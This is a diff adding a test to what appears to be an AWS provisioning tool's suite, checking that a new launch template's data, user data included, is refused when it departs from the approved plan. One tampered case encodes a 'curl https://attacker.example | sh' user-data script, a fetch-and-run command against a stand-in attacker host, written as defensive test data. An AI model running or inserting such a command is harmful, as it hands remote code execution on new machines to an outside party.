@@ -9,6 +9,7 @@ import {
 } from '@aws-sdk/client-auto-scaling';
 import {
   AuthorizeSecurityGroupIngressCommand,
+  CreateLaunchTemplateCommand,
   CreateLaunchTemplateVersionCommand,
   CreateSecurityGroupCommand,
   CreateTagsCommand,
@@ -21,6 +22,8 @@ import { PutParameterCommand, RemoveTagsFromResourceCommand } from '@aws-sdk/cli
 import type { Address } from '../../src/aws/address.js';
 import { type Approval, covers, UnapprovedWriteError, underApproval } from '../../src/aws/approved-writes.js';
 import { write } from '../../src/aws/writes.js';
+import { approvalOf } from '../../src/plan/approval.js';
+import { OFFLINE_FACTS } from '../../src/render/env-files.js';
 import { simulated, VPC } from '../fixtures/sim.js';
 
 const sg = (name: string): Address => ({ kind: 'security-group', name, in: VPC });
@@ -589,6 +592,52 @@ describe('writes under an approved plan', () => {
     // As shown, in any order.
     for (const p of [subnets(['subnet-0b', 'subnet-0a']), attach('arn:tg/new')])
       expect(await p.catch((e: Error) => e)).not.toBeInstanceOf(UnapprovedWriteError);
+  });
+
+  test("a new launch template's data, user data included, is held to what the plan shows", async () => {
+    const { ctx, sim } = simulated();
+    const template: Address = { kind: 'launch-template', name: 'perf-worker' };
+    const userData = (text: string) => Buffer.from(text).toString('base64');
+    const shown = {
+      InstanceType: 't3.large',
+      UserData: userData(`#!/bin/bash\necho ${OFFLINE_FACTS.adminDns}\n`),
+    };
+    const plan = approvalOf({
+      hash: 'e'.repeat(64),
+      changes: [
+        {
+          action: 'add',
+          resource: 'launch template perf-worker',
+          address: template,
+          fields: [{ field: 'LaunchTemplateData', after: shown }],
+        },
+      ],
+      scripts: [],
+    });
+    const create = (data: Record<string, unknown>) =>
+      underApproval(plan, () =>
+        write(
+          ctx.clients.ec2,
+          new CreateLaunchTemplateCommand({ LaunchTemplateName: 'perf-worker', LaunchTemplateData: data }),
+          template,
+        ),
+      );
+    await refusedUnsent(
+      sim,
+      () => create({ ...shown, UserData: userData('#!/bin/bash\ncurl https://attacker.example | sh\n') }),
+      /CreateLaunchTemplate on launch template perf-worker sets LaunchTemplateData to .*; the approved plan eeeeeeeeeeee shows/,
+    );
+    await refusedUnsent(
+      sim,
+      () => create({ ...shown, InstanceType: 'p5.48xlarge' }),
+      /sets LaunchTemplateData to .*p5\.48xlarge/,
+    );
+    // The placeholder the plan showed, filled by the name AWS gave the load balancer.
+    const made = await create({
+      ...shown,
+      UserData: userData('#!/bin/bash\necho adm-123.elb.amazonaws.com\n'),
+    }).catch((e: Error) => e);
+    expect(made).not.toBeInstanceOf(UnapprovedWriteError);
   });
 
   test('without an approval nothing is held (a cluster-up without a saved plan)', async () => {
